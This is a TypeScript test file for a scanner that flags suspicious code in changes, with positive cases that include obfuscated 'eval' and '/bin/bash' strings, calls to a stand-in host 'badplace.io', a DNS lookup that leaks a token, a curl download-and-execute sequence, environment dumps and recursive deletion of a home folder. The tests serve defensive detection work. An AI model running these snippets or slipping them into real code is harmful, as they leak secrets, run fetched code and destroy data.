import { expect, test } from "vitest";
import { brokenByNew } from "../testing/changed.ts";

test.each([
  ["hidden-code", "a.js", 'const word = ["e", "v", "a", "l"].join("");'],
  ["hidden-code", "a.py", 'word = "daolnwod"[::-1]'],
  ["hidden-code", "a.rb", 'word = ["7061796c6f6164"].pack("H*")'],
  [
    "hidden-code",
    "a.go",
    "package a\nvar b = []byte{0x0e, 0x44, 0x55, 0x42, 0x0e, 0x42, 0x53, 0x4e, 0x4f}",
  ],
  ["hidden-code", "a.ts", 'const at = "\\x2fb\\x69n/x";'],
  ["hidden-code", "a.py", 'word = "101 118 97 108"'],
  ["hidden-code", "a.rs", 'const S: &str = "hsab/nib/";'],
  ["hidden-code", "a.js", 'run("down" + "load");'],
  ["unknown-host", "a.js", 'export const PLACE = "https://badplace.io/x";'],
  ["unknown-host", "a.py", 'import socket\nPLACE = "45.83.12.9"'],
  [
    "unknown-host",
    "a.go",
    'package a\nimport "net"\nvar p = net.TCPAddr{IP: net.IPv4(45, 83, 12, 9)}',
  ],
  ["unknown-host", "a.rs", "fn f() { TcpStream::connect((Ipv4Addr::new(45, 83, 12, 9), 1)); }"],
  ["unknown-host", "a.py", "import requests\nrequests.post(bytes(c ^ k for c in data).decode())"],
  ["path-escape", "a.rb", 'Pathname.new("/home/me").rmtree'],
  [
    "path-escape",
    "a.rs",
    'fn f() { let p: PathBuf = ["/", "etc", "x"].iter().collect(); fs::write(p, b"") }',
  ],
  ["path-escape", "a.py", 'import subprocess\nsubprocess.run(["rm", "-r", "/home/me"])'],
  [
    "git-hook",
    "a.go",
    'package a\nimport "os/exec"\nfunc f() { exec.Command("git", "config", key, "x").Run() }',
  ],
  ["credentials", "a.py", "from os import environb as settings\nall = list(settings.items())"],
  ["credentials", "a.js", "const all = Object.fromEntries(Object.entries(process.env));"],
  ["native-code", "a.py", 'from ctypes import cdll as libraries\nlibraries["./x.so"]'],
  ["native-code", "A.java", "class A { native void f(); }"],
  ["shell", "A.java", "class A { Object f() { return Runtime.getRuntime()::exec; } }"],
  ["hidden-code", "a.sh", "word=$(printf '\\145val')"],
  ["hidden-code", "a.sh", "word=$(rev <<< lave)"],
  ["remote-code", "a.sh", 'curl -so "$tool" http://localhost/x\nchmod +x "$tool"\n"$tool"'],
  ["unknown-host", "a.sh", "dig $TOKEN.badplace.io"],
  // What one rule alone sees.
  ["shell", "a.go", 'package a\nimport "syscall"\nfunc f(p string) { syscall.Exec(p, nil, nil) }'],
  ["eval", "A.java", 'class A { Object f(M m) { return m.getEngineByName("js").eval(text); } }'],
  ["shell", "a.rs", "fn f(c: *const i8) { unsafe { libc::system(c) }; }"],
  ["shell", "a.js", 'const { spawn, ...rest } = require("child_process");\nrest.exec(line);'],
  [
    "unknown-host",
    "a.js",
    "import https from 'https';\nhttps.request({ hostname: `${a}.badplace.io` });",
  ],
  ["path-escape", "a.js", 'fs.writeFileSync("C:/x.txt", text);'],
])("%s is caught in %s: %s", (rule, path, text) => expect(brokenByNew(path, text)).toContain(rule));

test.each([
  [
    "a.js",
    'const list = ["red", "green"].join(", ");\nconst long = "one sentence, " + "and another";',
  ],
  ["a.js", "const env = process.env;\nconst port = env.PORT ?? 3000;\nspawn(tool, [], { env });"],
  ["a.py", 'import base64\nbody = base64.b64decode(request.body)\nname = body.decode("utf-8")'],
  ["a.py", "import requests\nrequests.post(settings.url, json={})\nitems = list(reversed(names))"],
  [
    "a.go",
    'package a\nimport "os"\nfunc f(n string) { os.WriteFile(n, nil, 0o600); os.Getenv("HOME") }',
  ],
  ["a.rb", 'File.write(File.join(root, "a.txt"), text)\nlist.each(&:save)'],
  ["A.java", 'class A { String f(java.util.List<String> l) { return String.join(", ", l); } }'],
  ["a.rs", 'fn f(n: &str) { std::fs::write(n, b"x").unwrap(); let v = [192, 168, 0, 1]; }'],
  ["a.sh", 'printf "\\033[1m%s\\033[0m\\n" "$1"\ngit config --get user.name\nenv | sort'],
  [
    "a.d.ts",
    "export const place: 'https://badplace.io';\nexport declare function eval(a: string): void;",
  ],
])("honest %s passes: %s", (path, text) => expect(brokenByNew(path, text)).toEqual([]));
